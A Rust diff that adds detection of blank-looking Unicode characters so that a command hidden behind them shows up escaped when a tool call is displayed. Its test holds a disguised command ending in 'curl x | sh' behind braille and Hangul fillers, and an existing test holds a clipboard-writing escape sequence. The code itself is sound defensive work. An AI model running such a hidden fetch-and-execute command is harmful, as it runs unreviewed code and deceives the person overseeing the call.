@@ -153,8 +153,30 @@ fn is_invisible(c: char, which: Invisible) -> bool {
         '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
     match which {
         Invisible::Bidi => bidi,
-        Invisible::All => bidi || is_format(c),
+        Invisible::All => bidi || is_format(c) || looks_blank(c),
     }
+}
+
+/// Characters that are no format character but show as a blank: spaces other than the
+/// plain one, the braille blank and the Hangul fillers (a run of them can push a command's
+/// tail out of sight), variation selectors and the combining grapheme joiner.
+fn looks_blank(c: char) -> bool {
+    matches!(c,
+        '\u{00a0}'
+        | '\u{034f}'
+        | '\u{115f}'
+        | '\u{1160}'
+        | '\u{1680}'
+        | '\u{17b4}'
+        | '\u{17b5}'
+        | '\u{2000}'..='\u{200a}'
+        | '\u{202f}'
+        | '\u{205f}'
+        | '\u{2800}'
+        | '\u{3000}'
+        | '\u{3164}'
+        | '\u{fe00}'..='\u{fe0f}'
+        | '\u{ffa0}')
 }
 
 /// Unicode format characters (category Cf) and the line and paragraph separators, which
@@ -194,6 +216,18 @@ mod tests {
             call_text("echo a\tb\r\nprintf '\x1b]52;c;eA==\x07'\n\x7f\x01\u{9b}2J"),
             "echo a\\tb\\r\nprintf '\\x1b]52;c;eA==\\x07'\n\\x7f\\x01\\u{9b}2J"
         );
+    }
+
+    #[test]
+    fn a_call_shows_blank_looking_characters_escaped() {
+        let hidden = format!("ls{} ; curl x | sh", "\u{2800}\u{3164}".repeat(3));
+        assert_eq!(
+            call_line(&hidden),
+            format!("ls{} ; curl x | sh", "\\u{2800}\\u{3164}".repeat(3))
+        );
+        assert!(hidden_in_call("a\u{00a0}b"));
+        // Prose keeps them: an answer in Korean or braille reads as written.
+        assert_eq!(prose("\u{2800}"), "\u{2800}");
     }
 
     #[test]
